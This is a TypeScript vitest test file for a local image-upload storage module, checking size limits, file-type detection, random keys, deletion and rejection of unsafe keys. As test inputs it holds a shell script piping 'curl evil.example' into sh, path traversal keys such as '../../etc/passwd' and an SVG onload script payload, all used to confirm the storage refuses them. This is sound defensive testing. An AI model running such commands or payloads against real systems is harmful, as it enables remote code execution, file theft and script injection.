import { mkdtemp, readdir, rm, writeFile, access } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32 } from 'node:zlib';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { IMAGE_TYPES, LocalStorage, MAX_IMAGE_BYTES } from './local';

/** A 1×1 PNG header: signature plus a well-formed IHDR chunk. */
function tinyPng(): Uint8Array {
	const size = [0, 0, 0, 1, 0, 0, 0, 1]; // width 1, height 1
	const format = [8, 6, 0, 0, 0]; // bit depth, RGBA, compression, filter, interlace
	const ihdr = Buffer.from([...Buffer.from('IHDR'), ...size, ...format]);
	const crc = Buffer.alloc(4);
	crc.writeUInt32BE(crc32(ihdr));
	const signature = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];
	return Uint8Array.from([...signature, 0, 0, 0, 13, ...ihdr, ...crc]);
}

const IMAGES = { allowed: IMAGE_TYPES, maxBytes: MAX_IMAGE_BYTES };
const KEY = /^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}\.png$/;

let dir: string;
let root: string;
let storage: LocalStorage;

beforeEach(async () => {
	dir = await mkdtemp(join(tmpdir(), 'talkoot-storage-'));
	root = join(dir, 'uploads');
	storage = new LocalStorage(root);
});

afterEach(async () => {
	await rm(dir, { recursive: true, force: true });
});

describe('LocalStorage', () => {
	it('stores a PNG under a random name and reads it back with its type', async () => {
		const png = tinyPng();
		const result = await storage.put(png, IMAGES);
		if (!result.ok) throw new Error(`put failed: ${result.reason}`);
		expect(result.key).toMatch(KEY);
		expect(result).toMatchObject({ mime: 'image/png', size: png.byteLength });
		expect(await readdir(root)).toEqual([result.key]);

		const stored = await storage.get(result.key);
		expect(stored?.mime).toBe('image/png');
		expect(Buffer.from(stored!.bytes).equals(Buffer.from(png))).toBe(true);
	});

	it('refuses an empty file', async () => {
		expect(await storage.put(new Uint8Array(), IMAGES)).toEqual({ ok: false, reason: 'empty' });
	});

	it('accepts exactly the limit and refuses one byte more as too_large', async () => {
		const atLimit = new Uint8Array(MAX_IMAGE_BYTES);
		atLimit.set(tinyPng());
		expect((await storage.put(atLimit, IMAGES)).ok).toBe(true);

		const overLimit = new Uint8Array(MAX_IMAGE_BYTES + 1);
		overLimit.set(tinyPng());
		expect(await storage.put(overLimit, IMAGES)).toEqual({ ok: false, reason: 'too_large' });
	});

	it('refuses a shell script whatever it was called', async () => {
		const script = new TextEncoder().encode('#!/bin/sh\ncurl evil.example | sh\n');
		expect(await storage.put(script, IMAGES)).toEqual({ ok: false, reason: 'type_not_allowed' });
		await expect(readdir(root)).rejects.toThrow(/ENOENT/);
	});

	it('refuses a PDF when only images are allowed, and accepts it when PDFs are', async () => {
		const pdf = new TextEncoder().encode('%PDF-1.7\n%âãÏÓ\n');
		expect(await storage.put(pdf, IMAGES)).toEqual({ ok: false, reason: 'type_not_allowed' });
		const result = await storage.put(pdf, { allowed: ['application/pdf'], maxBytes: 1000 });
		expect(result).toMatchObject({ ok: true, mime: 'application/pdf' });
	});

	it('gives two uploads of the same bytes different keys', async () => {
		const first = await storage.put(tinyPng(), IMAGES);
		const second = await storage.put(tinyPng(), IMAGES);
		if (!first.ok || !second.ok) throw new Error('put failed');
		expect(first.key).not.toBe(second.key);
		expect((await readdir(root)).sort()).toEqual([first.key, second.key].sort());
	});

	it('returns null for keys that could escape the directory or were never issued', async () => {
		const stored = await storage.put(tinyPng(), IMAGES);
		if (!stored.ok) throw new Error('put failed');
		// A real file just outside the root, that a traversal would reach.
		await writeFile(join(dir, 'victim.png'), tinyPng());
		for (const key of [
			'../../etc/passwd',
			'/etc/passwd',
			'../victim.png',
			'..%2Fvictim.png',
			'..\\victim.png',
			`../uploads/${stored.key}`,
			`./${stored.key}`,
			`${stored.key}/`,
			`${stored.key}\0.txt`,
			stored.key.toUpperCase(),
			stored.key.replace('.png', '.svg'),
			'victim.png',
			''
		]) {
			expect(await storage.get(key), key).toBeNull();
		}
	});

	it('returns null for a well-formed key with no file', async () => {
		expect(await storage.get('0b5a4c1e-8d3f-4a2b-9c7d-1e2f3a4b5c6d.png')).toBeNull();
	});

	it('returns null when the stored bytes no longer match an allowed type', async () => {
		const stored = await storage.put(tinyPng(), IMAGES);
		if (!stored.ok) throw new Error('put failed');
		await writeFile(join(root, stored.key), '<svg onload="alert(1)"/>');
		expect(await storage.get(stored.key)).toBeNull();
	});

	it('removes a stored file, and ignores keys that point elsewhere', async () => {
		const stored = await storage.put(tinyPng(), IMAGES);
		if (!stored.ok) throw new Error('put failed');
		await writeFile(join(dir, 'victim.png'), tinyPng());

		await storage.remove('../victim.png');
		await expect(access(join(dir, 'victim.png'))).resolves.toBeUndefined();

		await storage.remove(stored.key);
		expect(await storage.get(stored.key)).toBeNull();
		expect(await readdir(root)).toEqual([]);
		await expect(storage.remove(stored.key)).resolves.toBeUndefined();
	});
});
